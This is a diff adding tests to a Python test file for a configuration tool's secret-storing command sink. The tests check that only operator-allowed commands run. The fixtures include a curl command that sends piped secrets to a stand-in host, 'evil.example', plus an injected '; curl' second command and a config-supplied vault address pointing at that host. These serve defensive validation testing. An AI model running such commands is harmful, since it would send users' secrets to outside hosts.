@@ -221,11 +221,36 @@ def test_row02_the_command_sink_runs_only_what_the_operator_allows(
     )
     result = run_ctconfig("validate", env=NOTHING_ALLOWED)
     assert result.stderr.splitlines() == [
-        "ctconfig.yaml:2:35: command: the command sink would run 'curl', which the operator has not "
-        "allowed: a config never chooses where secrets go (list the program in CTCONFIG_ALLOWED_COMMANDS)"
+        "ctconfig.yaml:2:35: command: the command sink would run 'curl -d @- https://evil.example', "
+        "which the operator has not allowed: a config never chooses where secrets go "
+        "(list the whole command in CTCONFIG_ALLOWED_COMMANDS)"
     ]
     allowed = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault"})
     assert allowed.returncode == 1  # curl is still not vault
     write(tmp_path, "secrets: {sink: command, command: 'vault kv put x -; curl evil.example'}\n" + account())
     shell = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault"})
     assert shell.returncode == 1  # a shell line is allowed only as a whole
+
+
+def test_row02_an_allowed_program_never_takes_the_configs_own_arguments(
+    tmp_path: Path, run_ctconfig: RunCtconfig
+) -> None:
+    """Allowing `vault` must not let a config add `-address=` (its own server) or `-output` files."""
+    write(
+        tmp_path,
+        "secrets: {sink: command, command: [vault, kv, put, '-address=https://evil.example', x, '-']}\n"
+        + account(),
+    )
+    redirected = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault"})
+    assert redirected.returncode == 1
+    assert "-address=https://evil.example" in redirected.stderr and "whole command" in redirected.stderr
+    write(tmp_path, "secrets: {sink: command, command: [vault-put]}\n" + account())
+    alone = run_ctconfig("validate", env={**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault-put"})
+    assert alone.returncode == 0, alone.stderr
+    write(tmp_path, "secrets: {sink: command, command: [sh, ./store secret.sh]}\n" + account())
+    operators = {**NOTHING_ALLOWED, "CTCONFIG_ALLOWED_COMMANDS": "vault-put, sh './store secret.sh'"}
+    chosen = run_ctconfig("validate", env=operators)
+    assert chosen.returncode == 0, chosen.stderr  # the operator's words, quoted as the shell would
+    more = "secrets: {sink: command, command: [sh, ./store secret.sh, --to, elsewhere]}\n"
+    write(tmp_path, more + account())
+    assert run_ctconfig("validate", env=operators).returncode == 1
